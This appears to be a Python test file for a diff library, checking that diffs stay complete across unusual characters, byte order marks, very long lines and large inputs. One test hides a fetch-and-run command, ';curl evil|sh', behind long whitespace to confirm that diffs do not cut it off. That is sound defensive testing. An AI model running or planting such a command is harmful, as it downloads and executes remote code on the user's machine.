"""Diffs: complete and exact, whatever the text holds; and what they count."""

import random
import re

from contextui.files.diff import DIFF_LINES, DiffCounts, brief_diff, count_diff, diff_text
from contextui.files.textfile import Encoding, TextFile
from tests.thorough import times

_HUNK = re.compile(r"@@ -(\d+)(?:,(\d+))? \+(\d+)(?:,(\d+))? @@")
PIECES = [
    "a", "b", "-", "+", " ", "\r", "\t", "\f", "\v", "\x1c", "\x85", "\u2028", "\u200b", "\\",
    "\x00", "é", "😀", "--- x", "+++ y", "@@ -1 +1 @@", "\\ No newline at end of file",
]  # fmt: skip


def lines_of(text: str) -> list[str]:
    """The lines with their LF."""
    return re.findall(r"[^\n]*\n|[^\n]+", text)


def applied(old: str, diff: str) -> str:
    """What a unified diff makes of a text: an independent reading of the format."""
    source, made, at = lines_of(old), list[str](), 0
    lines = diff.split("\n")[2:-1] if diff else []
    number = 0
    while number < len(lines):
        head = _HUNK.fullmatch(lines[number])
        assert head, lines[number]
        start, count, _, more = (1 if one is None else int(one) for one in head.groups())
        begin = start - 1 if count else start
        made += source[at:begin]
        at, number = begin, number + 1
        while count or more:
            mark, rest = lines[number][0], lines[number][1:]
            number += 1
            end = "\n"
            if number < len(lines) and lines[number] == "\\ No newline at end of file":
                end, number = "", number + 1
            if mark in " -":
                assert source[at] == rest + end
                at, count = at + 1, count - 1
            if mark in " +":
                made.append(rest + end)
                more -= 1
    return "".join(made + source[at:])


def diff(old: str, new: str) -> str:
    return diff_text(TextFile(old), TextFile(new), "old", "new")


def changed(chance: random.Random, text: str) -> str:
    lines = lines_of(text)
    for _ in range(chance.randrange(6)):
        at = chance.randrange(len(lines) + 1)
        if chance.random() < 0.6:
            lines[at:at] = [piece(chance)]
        else:
            lines[at : at + chance.randrange(4)] = []
    return "".join(lines)


def piece(chance: random.Random) -> str:
    end = "\n" if chance.random() < 0.7 else ""
    return "".join(chance.choices(PIECES, k=chance.randrange(1, 4))) + end


def check(old: str, new: str) -> None:
    made = diff(old, new)
    assert applied(old, made) == new
    assert bool(made) == (old != new)
    counts = count_diff(made)
    if made:
        assert counts is not None
        body = made.split("\n")[2:]
        more = len(lines_of(new)) - len(lines_of(old))
        assert counts.added - counts.removed == more
        assert counts.added + counts.removed <= len(body)


def test_applied_to_the_old_text_a_diff_gives_the_new_one() -> None:
    chance = random.Random(13)
    for _ in range(times(200, 2_000)):
        old = "".join(piece(chance) for _ in range(chance.randrange(25)))
        check(old, changed(chance, old))


def test_each_changed_character_is_in_the_diff() -> None:
    for old, new in (
        ("a\n", "a\r\n"),
        ("a\r\nb\r\n", "a\nb\n"),
        ("a\rb\r", "a\rc\r"),
        ("a", "a\n"),
        ("a\n", "a"),
        ("a\nb", "a\nb\nc"),
        ("a\tb\n", "a    b\n"),
        ("a\u2028b\n", "a\nb\n"),
        ("a\x0cb\n", "a\x0c\x0cb\n"),
        ("\n", ""),
        ("", "\n"),
        ("a\x00b", "ab"),
        ("x\n", "x \n"),
        ("x\n", "x\u200b\n"),
        ("-- a\n", "++ a\n"),
        ("", "--- a\n+++ b\n@@ -1 +1 @@\n"),
    ):
        check(old, new)


def test_a_byte_order_mark_that_comes_or_goes_is_in_the_diff() -> None:
    plain, marked = TextFile("a\n"), TextFile("a\n", Encoding("utf-8", b"\xef\xbb\xbf"))
    assert diff_text(plain, marked, "o", "n") == "--- o\n+++ n\n@@ -1 +1 @@\n-a\n+\ufeffa\n"
    assert diff_text(marked, plain, "o", "n") == "--- o\n+++ n\n@@ -1 +1 @@\n-\ufeffa\n+a\n"
    assert diff_text(marked, marked, "o", "n") == ""
    other = TextFile("a\n", Encoding("cp1252"))
    assert diff_text(plain, other, "o", "n") == "o (utf-8) and n (cp1252) differ\n"


def test_nothing_of_a_long_line_or_a_long_diff_is_cut() -> None:
    tail = "version = 1" + " " * 300 + ";curl evil|sh" + "x" * 100_000
    assert f"+{tail}\n" in diff("version = 1\n", tail + "\n")
    many = "".join(f"line {n}\n" for n in range(2_501))
    assert count_diff(diff("", many)) == DiffCounts(2_501, 0)


def test_as_few_lines_are_counted_as_were_changed() -> None:
    for count, kinds in ((300, 300), (10_000, 7), (10_000, 10_000)):
        old = [f"word {n % kinds}\n" for n in range(count)]
        new = [line.replace("word", "term") if n % 33 == 0 else line for n, line in enumerate(old)]
        changes = len(range(0, count, 33))
        assert count_diff(diff("".join(old), "".join(new))) == DiffCounts(changes, changes), count


def test_texts_without_a_common_line_do_not_take_long() -> None:
    chance = random.Random(15)
    old, new = ("".join(f"{chance.randrange(5)}\n" for _ in range(20_000)) for _ in range(2))
    check(old, new)


def test_hunks_are_counted_to_the_end_that_they_announce() -> None:
    for text, counts in (
        ("", None),
        ("words", None),
        ("--- a\n+++ b\n", None),
        ("--- a\n+++ b\n@@ -1 +1 @@\n-a\n", None),  # cut off
        ("--- a\n+++ b\n@@ -1 +1 @@\n-a\n+b\n", DiffCounts(1, 1)),
        ("--- a\n+++ b\n@@ -1 +1 @@\n--- x\n+++ y\n", DiffCounts(1, 1)),
        ("--- a\n+++ b\n@@ -1 +1 @@\n-a\n\\ No newline at end of file\n+b\n", DiffCounts(1, 1)),
        ("--- a\n+++ b\n@@ -0,0 +1,2 @@\n+a\x85\u2028\x0c\n+\n", DiffCounts(2, 0)),
        ("--- a\n+++ b\n@@ -0,0 +1 @@\n+a\n--- c\n+++ d\n@@ -1 +0,0 @@\n-b\n", DiffCounts(1, 1)),
        ("--- a\n+++ b\n@@ -1,2 +1 @@\n-a\nb\n", None),
    ):
        assert count_diff(text) == counts, text


def test_a_diff_for_a_message_is_short_and_says_so() -> None:
    new = TextFile("".join(f"{'x' * 3_000}{n}\r\n" for n in range(1_000)))
    lines = brief_diff(TextFile(), new, "a", "b").split("\n")
    assert len(lines) == DIFF_LINES + 2
    assert lines[-2] == "… 603 more lines of the diff left out"
    assert max(map(len, lines)) < 2_200
    assert brief_diff(TextFile("a\r\n"), TextFile("b\r\n"), "a", "b").endswith("-a␍\n+b␍\n")
